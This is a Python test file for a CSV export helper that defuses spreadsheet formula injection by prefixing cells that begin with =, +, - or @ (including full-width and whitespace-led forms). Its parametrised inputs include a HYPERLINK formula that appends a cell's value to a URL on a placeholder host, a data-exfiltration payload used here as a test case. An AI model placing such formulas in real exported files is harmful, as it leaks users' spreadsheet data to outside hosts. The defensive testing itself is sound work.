"""What a spreadsheet would run leaves as text; everything else leaves as it is."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wire.spreadsheet import FORMULA_STARTS, is_formula, plain_cell


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+86 138",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u3000=1",
        "＝1",
        "＋1",
        "－1",
        "＠1",
        '=HYPERLINK("http://a.example/?"&A1)',
    ],
)
def test_what_might_be_run_is_marked(cell: str) -> None:
    assert is_formula(cell)
    assert plain_cell(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["", " ", "井盖缺失", "a=1", "1-2", "'=1", "3+4", "盛泽-目澜", "x@y"]
)
def test_the_rest_is_untouched(cell: str) -> None:
    assert not is_formula(cell)
    assert plain_cell(cell) == cell


@given(st.text(max_size=20))
def test_no_cell_begins_with_a_formula_and_nothing_is_lost(cell: str) -> None:
    made = plain_cell(cell)
    assert made[:1] not in FORMULA_STARTS
    assert made.lstrip()[:1] not in FORMULA_STARTS or not made.lstrip()
    assert made in (cell, f"'{cell}")
    assert plain_cell(made) == made


@given(st.sampled_from(sorted(FORMULA_STARTS)), st.text(max_size=8))
def test_the_mark_survives_the_file(start: str, rest: str) -> None:
    rest = rest.replace("\0", "")
    text = io.StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_ALL).writerow([plain_cell(start + rest), "2"])
    first, second = next(csv.reader(io.StringIO(text.getvalue(), newline="")))
    assert (first, second) == (f"'{start}{rest}", "2")
